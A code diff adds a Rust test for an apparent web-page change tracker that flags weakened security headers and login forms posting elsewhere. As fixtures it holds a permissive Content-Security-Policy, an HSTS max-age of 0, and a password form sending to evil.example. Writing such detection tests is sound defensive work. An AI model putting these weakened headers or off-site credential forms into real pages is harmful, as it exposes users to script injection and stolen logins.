@@ -310,6 +310,53 @@ fn tags_checkouts_and_scores_work_on_both_layouts() {
     }
 }
 
+/// Protection that goes and a form that sends elsewhere are told, whatever becomes of the score.
+#[test]
+fn what_an_analyst_looks_for_is_told_whether_or_not_the_score_moves() {
+    for place in places() {
+        let commit = |body: &str, headers: &[&str]| {
+            std::fs::write(place.path("page.html"), body).unwrap();
+            let mut words = vec!["commit", "page.html", "--url", "https://e.org/", "-m", "x"];
+            words.extend(headers.iter().flat_map(|header| ["--header", *header]));
+            place.data(&words);
+        };
+        let strict = "Content-Security-Policy: default-src 'self'";
+        let pinned = "Strict-Transport-Security: max-age=31536000";
+        let form = |action: &str| {
+            format!("<form method=post action={action}><input name=u><input type=password name=p></form>")
+        };
+        commit("<p>", &[strict, pinned]);
+        commit(
+            "<p>",
+            &[
+                "Content-Security-Policy: default-src * 'unsafe-inline'",
+                "Strict-Transport-Security: max-age=0",
+            ],
+        );
+        let why = place.data(&["score", "--explain"]);
+        assert!(!why.contains("Nothing that counts changed"), "{why}");
+        assert!(
+            why.contains("Content-Security-Policy protects less than before: `default-src 'self'` before"),
+            "{why}"
+        );
+        assert!(why.contains("`max-age=31536000` before, `max-age=0` now."), "{why}");
+        let scored = place.object(&["score", "--json"]);
+        let told = scored["changes"][0]["attack_surface_changes"].as_array().unwrap();
+        let rules: Vec<_> = told.iter().map(|change| change["rule"].as_str().unwrap()).collect();
+        assert_eq!(rules, ["csp_weakened", "hsts_weakened"], "{told:#?}");
+        assert_eq!(scored["changes"][0]["url"], "https://e.org/");
+
+        commit(&form("/login"), &[]);
+        commit(&form("https://evil.example/"), &[]);
+        let why = place.data(&["score", "--explain"]);
+        let target = "A form sends what is entered to another site now";
+        assert!(why.contains(target) && why.contains("POST https://evil.example/ now."), "{why}");
+        commit(&form("https://evil.example/"), &[]);
+        assert!(place.data(&["score", "--explain"]).contains("Nothing that counts changed since"));
+        assert_eq!(place.object(&["score", "--json"])["changes"], serde_json::json!([]));
+    }
+}
+
 /// What only looks needs no right to write: a score is shown all the same, and it is said that it is not kept.
 #[test]
 fn a_score_is_shown_where_it_cannot_be_kept() {
